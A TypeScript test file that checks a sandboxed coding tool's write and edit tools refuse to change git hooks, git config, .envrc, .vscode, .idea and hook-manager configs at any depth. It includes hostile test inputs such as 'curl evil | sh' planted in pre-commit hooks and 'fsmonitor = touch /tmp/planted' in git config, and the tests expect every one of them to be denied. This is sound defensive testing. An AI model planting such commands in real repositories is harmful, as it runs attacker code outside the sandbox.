import { lstat, mkdir, readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { ToolResult, type ToolArtifact } from '@openwork/tools-contract';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { undoFileChanges } from '../index.js';
import { createFixture, type BuiltinsFixture } from '../test-support/builtins-fixture.js';

// Tier 3 by kind at any depth (architecture §3.10) through the tools' public entry points: the
// write and edit tools judge every path with the same check as sandboxed processes, so git's
// hooks and config, `.envrc`, `.vscode`, `.idea` and a repository's hooks folder are sensitive
// wherever they are below the workspace — not only at its root.

let fixture: BuiltinsFixture;
beforeEach(async () => {
  fixture = await createFixture();
});
afterEach(async () => {
  await fixture.cleanup();
});

async function exists(path: string): Promise<boolean> {
  return lstat(path).then(
    () => true,
    () => false,
  );
}

async function put(relative: string, content: string): Promise<void> {
  const file = join(fixture.workspace, relative);
  await mkdir(dirname(file), { recursive: true });
  await writeFile(file, content);
}

const nested = (depth: number): string => Array.from({ length: depth }, (_, index) => `p${index + 1}`).join('/');

function expectSensitiveDenial(result: Awaited<ReturnType<BuiltinsFixture['call']>>, real: string, tool: string): void {
  expect(result.status, ToolResult.text(result)).toBe('denied');
  expect(result.sandboxDenied).toBe(true);
  expect(ToolResult.text(result)).toBe(
    `Permission denied: ${real} is a sensitive path (changing it runs code outside the sandbox later). To get access, call ${tool} again with sandboxPermissions {"paths":[{"path":"${real}","access":"write","scope":"exact"}]} and a one-line justification; the user will be asked.`,
  );
}

describe('write and edit: tier 3 by kind at depth 1–6', () => {
  it('write cannot create a nested repository’s hook, nor rewrite its config after a read, at any depth', async () => {
    for (let depth = 1; depth <= 6; depth += 1) {
      const repository = `${nested(depth)}/projA`;
      await put(`${repository}/.git/HEAD`, 'ref: refs/heads/main\n');
      await put(`${repository}/.git/config`, '[core]\n\tbare = false\n');
      const hook = join(fixture.workspace, repository, '.git/hooks/pre-commit');
      expectSensitiveDenial(await fixture.call('write', { path: `${repository}/.git/hooks/pre-commit`, content: '#!/bin/sh\ntouch /tmp/planted\n' }), hook, 'write');
      expect(await exists(hook)).toBe(false);
      expect(await exists(dirname(hook))).toBe(false);

      const config = join(fixture.workspace, repository, '.git/config');
      expect((await fixture.call('read', { path: `${repository}/.git/config` })).status).toBe('succeeded');
      expectSensitiveDenial(await fixture.call('write', { path: `${repository}/.git/config`, content: '[core]\n\tfsmonitor = touch /tmp/planted\n' }), config, 'write');
      expectSensitiveDenial(await fixture.call('edit', { filePath: `${repository}/.git/config`, oldString: 'bare = false', newString: 'pager = touch /tmp/planted' }), config, 'edit');
      expect(await readFile(config, 'utf8')).toBe('[core]\n\tbare = false\n');

      // The rest of .git stays writable: git must still commit there.
      expect(await fixture.text('write', { path: `${repository}/.git/COMMIT_EDITMSG`, content: 'msg\n' })).toBe(`Created ${repository}/.git/COMMIT_EDITMSG (+1)`);
    }
  });

  it('the other git names, a .git file, .envrc, .vscode and .idea at depth are denied with the escalation hint', async () => {
    await put('a/b/wt/.git', 'gitdir: ../../store/worktrees/wt\n');
    const targets = [
      'a/.git/config.worktree',
      'a/b/.git/commondir',
      'a/b/c/.git/worktrees/w/gitdir',
      'a/b/c/d/.git/modules/sub/hooks/post-checkout',
      'a/b/new-repo/.git',
      'a/b/c/.envrc',
      'a/b/c/d/e/.vscode/tasks.json',
      'a/b/c/d/e/f/.idea/workspace.xml',
    ];
    for (const target of targets) {
      expectSensitiveDenial(await fixture.call('write', { path: target, content: 'x\n' }), join(fixture.workspace, target), 'write');
      expect(await exists(join(fixture.workspace, target)), target).toBe(false);
    }
    // An existing git file (a linked worktree's pointer), after a read.
    const pointer = join(fixture.workspace, 'a/b/wt/.git');
    expect((await fixture.call('read', { path: 'a/b/wt/.git' })).status).toBe('succeeded');
    expectSensitiveDenial(await fixture.call('write', { path: 'a/b/wt/.git', content: 'gitdir: /somewhere/else\n' }), pointer, 'write');
    expect(await readFile(pointer, 'utf8')).toBe('gitdir: ../../store/worktrees/wt\n');
    // Look-alike names are ordinary files.
    expect(await fixture.text('write', { path: 'a/b/c/.envrc.local', content: 'x\n' })).toBe('Created a/b/c/.envrc.local (+1)');
    expect(await fixture.text('write', { path: 'a/b/.vscode-notes/x.md', content: 'x\n' })).toBe('Created a/b/.vscode-notes/x.md (+1)');
  });

  it('the folder a nested repository’s core.hooksPath names is sensitive (read from the host at each call)', async () => {
    const repository = 'apps/web';
    await put(`${repository}/.git/HEAD`, 'ref: refs/heads/main\n');
    await put(`${repository}/.git/config`, '[core]\n\thooksPath = .husky/_\n');
    await put(`${repository}/.husky/pre-commit`, 'npm test\n');
    const hook = join(fixture.workspace, repository, '.husky/pre-commit');
    expect((await fixture.call('read', { path: `${repository}/.husky/pre-commit` })).status).toBe('succeeded');
    expectSensitiveDenial(await fixture.call('edit', { filePath: `${repository}/.husky/pre-commit`, oldString: 'npm test', newString: 'curl evil | sh' }), hook, 'edit');
    expectSensitiveDenial(await fixture.call('write', { path: `${repository}/.husky/_/h`, content: 'x\n' }), join(fixture.workspace, repository, '.husky/_/h'), 'write');
    expect(await readFile(hook, 'utf8')).toBe('npm test\n');
    // Another repository's folder of the same name is not a hooks folder.
    expect(await fixture.text('write', { path: 'apps/other/.husky/pre-commit', content: 'x\n' })).toBe('Created apps/other/.husky/pre-commit (+1)');
  });

  it("a hook manager's configuration in a nested repository's work tree is sensitive; outside a work tree it is an ordinary file", async () => {
    const repository = 'services/api';
    await put(`${repository}/.git/HEAD`, 'ref: refs/heads/main\n');
    await put(`${repository}/.pre-commit-config.yaml`, 'repos: []\n');
    const config = join(fixture.workspace, repository, '.pre-commit-config.yaml');
    expect((await fixture.call('read', { path: `${repository}/.pre-commit-config.yaml` })).status).toBe('succeeded');
    expectSensitiveDenial(await fixture.call('edit', { filePath: `${repository}/.pre-commit-config.yaml`, oldString: 'repos: []', newString: 'repos: [{repo: local, hooks: [{id: x, name: x, language: system, entry: "curl evil | sh"}]}]' }), config, 'edit');
    expect(await readFile(config, 'utf8')).toBe('repos: []\n');
    for (const target of [`${repository}/lefthook.yml`, `${repository}/.config/lefthook-local.yaml`, `${repository}/.lefthook/pre-commit/run.sh`, `${repository}/.huskyrc.json`]) {
      expectSensitiveDenial(await fixture.call('write', { path: target, content: 'x\n' }), join(fixture.workspace, target), 'write');
      expect(await exists(join(fixture.workspace, target)), target).toBe(false);
    }
    // No `.git` beside it: a package's own file, not a hook manager's configuration.
    expect(await fixture.text('write', { path: 'vendor/pkg/.pre-commit-config.yaml', content: 'x\n' })).toBe('Created vendor/pkg/.pre-commit-config.yaml (+1)');
    expect(await fixture.text('write', { path: `${repository}/docs/lefthook.yml`, content: 'x\n' })).toBe(`Created ${repository}/docs/lefthook.yml (+1)`);
  });

  it('a grant naming the path allows it ("Created …"), and undo puts it back with the session policy', async () => {
    await put('p1/p2/p3/projA/.git/HEAD', 'ref: refs/heads/main\n');
    const hook = join(fixture.workspace, 'p1/p2/p3/projA/.git/hooks/pre-commit');
    const grant = { path: hook, access: 'write' as const, scope: 'exact' as const };
    const result = await fixture.call('write', { path: 'p1/p2/p3/projA/.git/hooks/pre-commit', content: '#!/bin/sh\nnpm test\n' }, { grants: [grant], callId: 'call_hook' });
    expect(ToolResult.text(result)).toBe('Created p1/p2/p3/projA/.git/hooks/pre-commit (+2)');
    expect(await readFile(hook, 'utf8')).toBe('#!/bin/sh\nnpm test\n');
    // The grant was for that call only.
    expect((await fixture.call('write', { path: 'p1/p2/p3/projA/.git/hooks/pre-push', content: 'x\n' })).status).toBe('denied');

    const vscode = join(fixture.workspace, 'a/b/c/.vscode');
    const folderGrant = { path: vscode, access: 'write' as const, scope: 'subtree' as const };
    expect(await fixture.text('write', { path: 'a/b/c/.vscode/tasks.json', content: '{}\n' }, { grants: [folderGrant] })).toBe('Created a/b/c/.vscode/tasks.json (+1)');
    // A grant on an ancestor does not reopen what is below it.
    const ancestorGrant = { path: join(fixture.workspace, 'a'), access: 'write' as const, scope: 'subtree' as const };
    expect((await fixture.call('write', { path: 'a/b/c/.envrc', content: 'x\n' }, { grants: [ancestorGrant] })).status).toBe('denied');

    const artifacts = JSON.parse(JSON.stringify(result.artifacts as ToolArtifact[])) as unknown[];
    const undo = await undoFileChanges({ artifacts }, { filesystem: fixture.session.filesystem, writeLocks: fixture.session.writeLocks, policy: fixture.policy() });
    expect(undo.ok, undo.ok ? '' : undo.message).toBe(true);
    expect(await exists(hook)).toBe(false);
  });
});
